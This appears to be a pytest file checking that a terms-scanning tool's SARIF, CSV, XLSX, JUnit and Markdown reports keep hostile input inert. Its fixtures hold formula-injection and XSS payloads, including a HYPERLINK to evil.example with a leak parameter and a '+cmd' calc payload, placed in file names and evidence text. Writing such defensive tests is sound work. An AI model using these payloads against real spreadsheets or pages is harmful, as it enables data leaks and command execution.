"""The report formats beside JSON/HTML/PDF: SARIF (schema-validated), CSV, XLSX, JUnit XML, hostile text in all of
them and in Markdown, and `scan --format a,b --format c` / `--out -`.

tests/data/sarif-schema-2.1.0.json is the SARIF 2.1.0 JSON schema (see tests/data/README.md for its source).
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
import zipfile
from collections import Counter
from html import unescape

import jsonschema
import openpyxl
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt

from termsgap import engine, report
from termsgap.cli import main
from termsgap.models import DocumentResult, Evidence, Finding, PolicyInfo, RunResult, ToolInfo, Verdict
from termsgap.report import _table, sarif_report

from conftest import ROOT, SAMPLES

SCHEMA = json.loads((ROOT / "tests" / "data" / "sarif-schema-2.1.0.json").read_text())
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")

# file names and document text meant to break out: spreadsheet formulas, HTML, Markdown tables, code spans, links
HOSTILE_MD = '=HYPERLINK("evil.example","open") | <img src=x onerror=alert(1)> `x` [a](javascript:alert(1)).md'
HOSTILE_PDF = "@SUM(1+1)*cmd.pdf"
HOSTILE_BROKEN = "+cmd|' calc'!A0.pdf"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak=1","Click for details")'
MARKUP = ("<script>alert(1)</script> | cell | `code` **bold** [link](javascript:alert(1)) ![i](x) "
          "<img src=x onerror=alert(1)> <https://evil.example> &lt;b&gt;")
CONTROL = "Vendor text with\x0b a vertical tab,\x0c a form feed and\x00 a NUL."


@pytest.fixture(scope="module")
def scanned(tmp_path_factory, policy) -> RunResult:
    """A real scan: a Markdown sample (source lines), a PDF sample (pages) and an unreadable file, all with hostile
    names, given as relative paths."""
    d = tmp_path_factory.mktemp("hostile")
    shutil.copy(SAMPLES / "cinder-customisation-terms.md", d / HOSTILE_MD)
    shutil.copy(SAMPLES / "dovetail-platform-agreement.pdf", d / HOSTILE_PDF)
    (d / HOSTILE_BROKEN).write_bytes(b"")
    paths = [os.path.relpath(d / name) for name in (HOSTILE_MD, HOSTILE_PDF, HOSTILE_BROKEN)]
    return engine.scan(paths, policy, vendor=HYPERLINK)


def ev(quote, page=None, line=None, section="", clause=None, start=0, end=0) -> Evidence:
    return Evidence(quote=quote, page=page, line=line, section=section, clause=clause, start=start, end=end)


@pytest.fixture(scope="module")
def built() -> RunResult:
    """Hostile evidence text in every verdict that the formats treat differently."""
    findings = (
        Finding(question="training.customer-content", title="Training?", answer="yes", verdict=Verdict.GAP,
                confidence=0.9, evidence=(ev(HYPERLINK, page=3, section="2 Use", clause="2.1", start=10, end=60),),
                rationale="+cmd|' /C calc'!A0", remediation="-2+3 ask for a no-training clause"),
        Finding(question="access.human-review", title="Human review?", answer="flagged-only", verdict=Verdict.PARTIAL,
                confidence=0.8, evidence=(ev("@SUM(A1:A9) reviewers may read flagged content", line=12),
                                          ev(MARKUP, line=14))),
        Finding(question="retention.prompts-outputs", title="Retention?", answer="days", value=30.0,
                verdict=Verdict.REVIEW, confidence=0.5, evidence=(ev("\tKept 30 days. " + CONTROL, page=4),)),
        Finding(question="security.encryption", title="Encryption?", answer="yes", verdict=Verdict.COMPLIANT,
                confidence=1.0, evidence=(ev("Data is encrypted at rest.", page=5),)),
        Finding(question="location.data-residency", title="Residency?", answer="not-addressed",
                verdict=Verdict.NOT_ADDRESSED, confidence=0.9, candidates=(ev("\rServers are in many places."),)),
    )
    return RunResult(tool=ToolInfo(version="9.9.9"), policy=PolicyInfo(name="=policy | extra cell", version="1"),
                     vendor="@vendor", created="2025-06-01T10:00:00+00:00",
                     documents=(DocumentResult(source="terms/" + HOSTILE_MD, sha256="c" * 64, findings=findings),
                                DocumentResult(source=HOSTILE_BROKEN, status="error", error="<b>bad</b> ]]> & \x0b")))


def document_counts(result) -> Counter:
    """Per document x question (what CSV, SARIF and JUnit list), not the vendor view's `counts`."""
    return Counter(f.verdict.value for d in result.documents for f in d.findings)


def both(scanned, built):
    return [("scanned", scanned), ("built", built)]


# --------------------------------------------------------------------------- all formats

def test_every_format_is_registered_and_written(tmp_path, scanned):
    names = {"json", "html", "pdf", "md", "sarif", "csv", "xlsx", "junit"}
    assert names <= set(report.available_formats())
    written = report.write_reports(scanned, tmp_path, report.available_formats())
    assert [p.name for p in written] == [report.get_renderer(n).filename for n in report.available_formats()]
    assert {"report.sarif", "report.csv", "report.xlsx", "report.junit.xml"} <= {p.name for p in written}
    assert all(p.stat().st_size > 0 for p in written)


def test_text_formats_may_go_to_stdout_binary_ones_not():
    binary = {name for name in report.available_formats() if report.get_renderer(name).binary}
    assert binary == {"pdf", "pdf-summary", "xlsx"}


def test_openpyxl_loads_only_for_xlsx():
    code = ("import sys, termsgap.report as r; from termsgap.models import *; "
            "x = RunResult(tool=ToolInfo(version='0'), policy=PolicyInfo(name='p', version='1'), documents=()); "
            "[r.render(x, f) for f in ('json', 'sarif', 'csv', 'junit', 'md')]; "
            "assert 'openpyxl' not in sys.modules, 'openpyxl imported'; r.render(x, 'xlsx'); "
            "assert 'openpyxl' in sys.modules")
    subprocess.run([sys.executable, "-c", code], check=True)


# --------------------------------------------------------------------------- SARIF

def sarif(result) -> dict:
    return json.loads(report.render(result, "sarif"))


def test_sarif_validates_against_the_schema(scanned, built):
    validator = jsonschema.Draft7Validator(SCHEMA, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER)
    empty = RunResult(tool=ToolInfo(version="0"), policy=PolicyInfo(name="p", version="1"), documents=())
    for name, result in both(scanned, built) + [("empty", empty)]:
        errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(sarif(result))]
        assert not errors, (name, errors[:5])
    # the validator catches what matters: a level SARIF does not know, a missing message, a URI with a space
    log = sarif(built)
    log["runs"][0]["results"][0]["level"] = "gap"
    del log["runs"][0]["results"][1]["message"]
    log["runs"][0]["artifacts"][0]["location"]["uri"] = "a b.md"
    assert len(list(validator.iter_errors(log))) == 3


def test_sarif_rules_results_levels_and_fingerprints(scanned, checklist):
    run = sarif(scanned)["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "termsgap" and driver["version"] == scanned.tool.version
    assert [r["id"] for r in driver["rules"]] == [q.id for q in checklist.questions]
    assert [r["shortDescription"]["text"] for r in driver["rules"]] == [q.title for q in checklist.questions]
    assert all(r["help"]["text"] for r in driver["rules"])
    wanted = [(i, f) for i, d, f in report._format.iter_findings(scanned)
              if f.verdict in (Verdict.GAP, Verdict.PARTIAL, Verdict.REVIEW)]
    assert wanted and len(run["results"]) == len(wanted)
    for res, (i, f) in zip(run["results"], wanted):
        assert res["ruleId"] == f.question and driver["rules"][res["ruleIndex"]]["id"] == f.question
        assert res["level"] == {"gap": "error", "partial": "warning", "review": "note"}[f.verdict.value]
        assert res["partialFingerprints"] == {"termsgapFinding/v1": f.fingerprint}
        assert f.verdict.value.replace("-", " ") in res["message"]["text"].lower()
        assert res["locations"][0]["physicalLocation"]["artifactLocation"]["index"] == i
    assert Counter(r["level"] for r in run["results"])["error"] == document_counts(scanned)["gap"]


def test_sarif_locations_lines_pages_and_snippets(scanned):
    run = sarif(scanned)["runs"][0]
    uris = [a["location"]["uri"] for a in run["artifacts"]]
    assert all(not u.startswith(("/", "file:")) and " " not in u for u in uris)  # relative paths stay relative
    assert uris[0].endswith(sarif_report.artifact_uri(HOSTILE_MD)) and "%3Cimg" in uris[0]
    assert run["artifacts"][0]["hashes"]["sha-256"] == scanned.documents[0].sha256
    def quoted(doc_index):
        locs = [r["locations"][0] for r in run["results"]]
        return [loc for loc in locs if loc["physicalLocation"]["artifactLocation"]["index"] == doc_index
                and "properties" in loc]

    md_locs, pdf_locs = quoted(0), quoted(1)
    assert md_locs and pdf_locs
    for loc in md_locs:  # Markdown: a source line is a SARIF line, and the quote is its snippet
        region = loc["physicalLocation"]["region"]
        assert region["startLine"] == loc["properties"]["line"] >= 1
        assert region["snippet"]["text"] == loc["properties"]["quote"]
    for loc in pdf_locs:  # PDF: a page is not a line; it goes to properties and the location's message
        assert "region" not in loc["physicalLocation"]
        assert loc["properties"]["page"] >= 1 and f"p. {loc['properties']['page']}" in loc["message"]["text"]
        span = loc["properties"]["extractedText"]
        assert span["charLength"] == len(loc["properties"]["quote"])


def test_sarif_unreadable_document_is_a_tool_notification(scanned):
    (inv,) = sarif(scanned)["runs"][0]["invocations"]
    assert inv["executionSuccessful"] is False
    errors = [n for n in inv["toolExecutionNotifications"] if n["level"] == "error"]
    assert len(errors) == 1 and HOSTILE_BROKEN in errors[0]["message"]["text"]
    assert errors[0]["locations"][0]["physicalLocation"]["artifactLocation"]["index"] == 2


def test_sarif_keeps_hostile_text_as_plain_strings(built):
    text = report.render(built, "sarif").decode()
    log = json.loads(text)
    res = log["runs"][0]["results"]
    assert res[0]["locations"][0]["properties"]["quote"] == HYPERLINK
    assert res[1]["relatedLocations"][0]["physicalLocation"]["region"]["snippet"]["text"] == MARKUP
    assert "markdown" not in text  # only plain-text messages: a viewer renders nothing
    assert [a["location"]["uri"] for a in log["runs"][0]["artifacts"]] == [
        "terms/%3DHYPERLINK%28%22evil.example%22%2C%22open%22%29%20%7C%20%3Cimg%20src%3Dx%20onerror%3D"
        "alert%281%29%3E%20%60x%60%20%5Ba%5D%28javascript%3Aalert%281%29%29.md",
        "%2Bcmd%7C%27%20calc%27%21A0.pdf"]


def test_artifact_uris():
    assert sarif_report.artifact_uri("contracts/a b.pdf") == "contracts/a%20b.pdf"
    assert sarif_report.artifact_uri("/srv/terms/a#1.pdf") == "file:///srv/terms/a%231.pdf"
    assert sarif_report.artifact_uri("c:terms.md") == "c%3Aterms.md"  # not read as a URI scheme
    assert sarif_report.artifact_uri("https://vendor.example/dpa?v=2") == "https://vendor.example/dpa?v=2"


# --------------------------------------------------------------------------- CSV

def csv_rows(result) -> list[list[str]]:
    data = report.render(result, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel reads the accents right
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_one_row_per_document_and_question(scanned, checklist):
    header, *rows = csv_rows(scanned)
    assert header == list(_table.COLUMNS)
    ok = [d for d in scanned.documents if d.status == "ok"]
    assert len(rows) == len(ok) * len(checklist.questions) + 1  # + the unreadable document's row
    col = {name: i for i, name in enumerate(header)}
    assert Counter(r[col["verdict"]] for r in rows) == document_counts(scanned) + Counter({"error": 1})
    gap = next(r for r in rows if r[col["verdict"]] == "gap")
    f = next(f for d in scanned.documents for f in d.findings if f.verdict == Verdict.GAP)
    assert gap[col["question id"]] == f.question and gap[col["evidence quote"]].lstrip("'") == f.evidence[0].quote
    assert rows[-1][col["verdict"]] == "error" and rows[-1][col["rationale"]]


def test_csv_neutralises_formulas(scanned, built):
    for name, result in both(scanned, built):
        for row in csv_rows(result)[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_START), (name, cell)
    header, *rows = csv_rows(built)
    col = {name: i for i, name in enumerate(header)}
    assert rows[0][col["vendor"]] == "'@vendor"
    assert rows[0][col["evidence quote"]] == "'" + HYPERLINK
    assert rows[0][col["rationale"]] == "'+cmd|' /C calc'!A0"
    assert rows[0][col["remediation"]] == "'-2+3 ask for a no-training clause"
    assert rows[2][col["evidence quote"]].startswith("'\tKept 30 days")
    assert rows[0][col["document"]] == "terms/" + HOSTILE_MD  # a formula sign inside the text is harmless
    assert _table.neutralise(-1) == -1 and _table.neutralise("a=b") == "a=b"


# --------------------------------------------------------------------------- XLSX

def workbook(result):
    return openpyxl.load_workbook(io.BytesIO(report.render(result, "xlsx")))


def test_xlsx_sheets_header_filter_widths_colours(scanned, checklist):
    wb = workbook(scanned)
    assert wb.sheetnames == ["Findings", "Summary", "Vendors"]
    ws = wb["Findings"]
    assert [c.value for c in ws[1]] == list(_table.COLUMNS)
    assert ws.freeze_panes == "A2"
    n_ok = sum(d.status == "ok" for d in scanned.documents)
    assert ws.max_row == 1 + n_ok * len(checklist.questions) + 1
    assert ws.auto_filter.ref == f"A1:N{ws.max_row}"
    evidence = _table.COLUMNS.index("evidence quote") + 1
    assert ws.column_dimensions["L"].width >= 60 and ws.cell(2, evidence).alignment.wrap_text
    verdict = _table.COLUMNS.index("verdict") + 1
    gap_cell = next(ws.cell(r, verdict) for r in range(2, ws.max_row + 1) if ws.cell(r, verdict).value == "gap")
    assert gap_cell.fill.fgColor.rgb.endswith("FDE8E6") and gap_cell.font.bold
    summary = {row[0]: row for row in wb["Summary"].iter_rows(values_only=True) if row[0]}
    assert summary["tool"][1] == f"termsgap {scanned.tool.version}" and summary["policy"][1].startswith("default")
    head = list(summary["document"])
    for d in scanned.documents:
        row = summary[d.source]
        assert row[1] == d.status
        assert {v: row[head.index(v)] for v in d.counts} == d.counts
    assert summary["total"][head.index("gap")] == scanned.counts["gap"]


def test_xlsx_never_holds_a_formula(scanned, built):
    for name, result in both(scanned, built):
        data = report.render(result, "xlsx")
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(re.search(r"<f[ >]", s) for s in sheets), name
    ws = workbook(built)["Findings"]
    cells = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in (HYPERLINK, "@vendor", "+cmd|' /C calc'!A0", "-2+3 ask for a no-training clause"):
        cell = cells[text]  # kept verbatim, as text, marked as typed after a quote
        assert cell.data_type == "s" and cell.quotePrefix, text
    assert any(v.startswith("\tKept 30 days") and "\x0b" not in v and "\x00" not in v for v in cells)
    assert cells["Data is encrypted at rest."].quotePrefix is False


def test_xlsx_is_deterministic(built):
    assert report.render(built, "xlsx") == report.render(built, "xlsx")
    with zipfile.ZipFile(io.BytesIO(report.render(built, "xlsx"))) as z:
        assert {i.date_time for i in z.infolist()} == {(2025, 6, 1, 10, 0, 0)}
        assert "2025-06-01T10:00:00Z" in z.read("docProps/core.xml").decode()


# --------------------------------------------------------------------------- JUnit

def junit(result) -> ET.Element:
    return ET.fromstring(report.render(result, "junit"))


def test_junit_counts_follow_the_verdicts(scanned, checklist):
    root = junit(scanned)
    suites = root.findall("testsuite")
    assert [s.get("name") for s in suites] == [d.source for d in scanned.documents]
    cases = root.iter("testcase")
    assert sum(1 for _ in cases) == sum(d.status == "ok" for d in scanned.documents) * len(checklist.questions) + 1
    counts = document_counts(scanned)
    assert len(list(root.iter("failure"))) == int(root.get("failures")) == counts["gap"]
    assert len(list(root.iter("skipped"))) == int(root.get("skipped")) == (
        counts["review"] + counts["partial"] + counts["waived"])
    assert len(list(root.iter("error"))) == int(root.get("errors")) == 1
    for suite in suites:
        assert int(suite.get("tests")) == len(suite.findall("testcase"))
        assert int(suite.get("failures")) == len(suite.findall("testcase/failure"))
    ok_doc = scanned.documents[0]
    first = suites[0].find("testcase")
    assert first.get("classname") == ok_doc.source
    assert first.get("name") == f"{ok_doc.findings[0].question} — {ok_doc.findings[0].title}"
    gap = next(c for c in root.iter("testcase") if c.find("failure") is not None)
    assert gap.find("failure").get("type") == "gap" and "“" in gap.find("failure").text
    broken = suites[2].find("testcase/error")
    assert broken.get("type") == "unreadable" and broken.get("message")


def test_junit_hostile_text_is_inert(built):
    root = junit(built)  # parses: control characters dropped, everything escaped
    assert [s.get("name") for s in root.findall("testsuite")] == [d.source for d in built.documents]
    assert sum(1 for _ in root.iter()) == sum(1 for _ in junit(built).iter())
    assert {e.tag for e in root.iter()} == {"testsuites", "testsuite", "properties", "property", "testcase",
                                            "failure", "skipped", "system-out", "error"}
    failure = root.find("testsuite/testcase/failure")
    assert HYPERLINK in failure.text and failure.get("message") == "yes: +cmd|' /C calc'!A0"
    assert MARKUP in root.find("testsuite/testcase[2]/system-out").text
    assert root.find("testsuite[2]/testcase/error").get("message") == "<b>bad</b> ]]> & "
    assert root.find("testsuite/properties/property[@name='vendor']").get("value") == "@vendor"


# --------------------------------------------------------------------------- Markdown

def test_markdown_hostile_text_renders_inert(scanned, built):
    parser = MarkdownIt("commonmark").enable("table")  # raw HTML allowed, as in many viewers
    for name, result in both(scanned, built):
        text = report.render(result, "md").decode()
        html = parser.render(text)
        for live in ("<img", "<script", "<a ", "javascript:alert(1)\"", "<b>"):
            assert live not in html, (name, live)
        for table in re.findall(r"<table>.*?</table>", html, flags=re.S):
            widths = {len(re.findall(r"<t[hd][ >]", row)) for row in re.findall(r"<tr>.*?</tr>", table, re.S)}
            assert len(widths) == 1, (name, widths)  # no pipe in a name or quote added a column
    html = parser.render(report.render(built, "md").decode())
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "[link](javascript:alert(1))" in html
    cells = [unescape(c) for c in re.findall(r"<td>(.*?)</td>", html, flags=re.S)]
    assert "=policy | extra cell v1" in cells  # a pipe stays inside its cell, shown as written
    assert any(f"<code>terms/{HOSTILE_MD}</code>" in c for c in cells)  # the file name whole, in one code span


# --------------------------------------------------------------------------- CLI

GOOD = SAMPLES / "cinder-customisation-terms.md"


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def test_scan_formats_comma_list_and_repeats(tmp_path):
    out = tmp_path / "out"
    r = run("scan", GOOD, "--out", out, "--format", "json,sarif", "--format", "csv", "--format", "junit,csv")
    assert r.exit_code == 1, r.output
    assert sorted(p.name for p in out.iterdir()) == ["report.csv", "report.json", "report.junit.xml",
                                                          "report.sarif"]


def test_scan_out_dash_writes_only_the_report_to_stdout(tmp_path):
    r = run("scan", GOOD, "--format", "json", "--out", "-")
    assert r.exit_code == 1
    data = json.loads(r.stdout)  # nothing but the report
    assert data["documents"][0]["source"] == str(GOOD)
    assert "gap" in r.stderr and "reports:" not in r.output
    r = run("scan", GOOD, "--format", "sarif", "--out", "-", "-q")
    assert json.loads(r.stdout)["version"] == "2.1.0" and r.stderr == ""


@pytest.mark.parametrize("formats", ["xlsx", "json,md", "pdf"])
def test_scan_out_dash_refuses_binary_or_several_formats(formats):
    r = run("scan", GOOD, "--format", formats, "--out", "-")
    assert r.exit_code == 2 and r.stdout == ""
    assert r.stderr.count("\n") == 1 and "--out -" in r.stderr and formats in r.stderr


@pytest.mark.parametrize("formats", ["json,nope", ",", "json,,"])
def test_scan_format_list_errors(tmp_path, formats):
    out = tmp_path / "out"
    r = run("scan", GOOD, "--format", formats, "--out", out)
    if formats == "json,,":  # empty items are ignored
        assert r.exit_code == 1 and (out / "report.json").exists()
    else:
        assert r.exit_code == 2 and r.stderr.count("\n") == 1 and not out.exists()
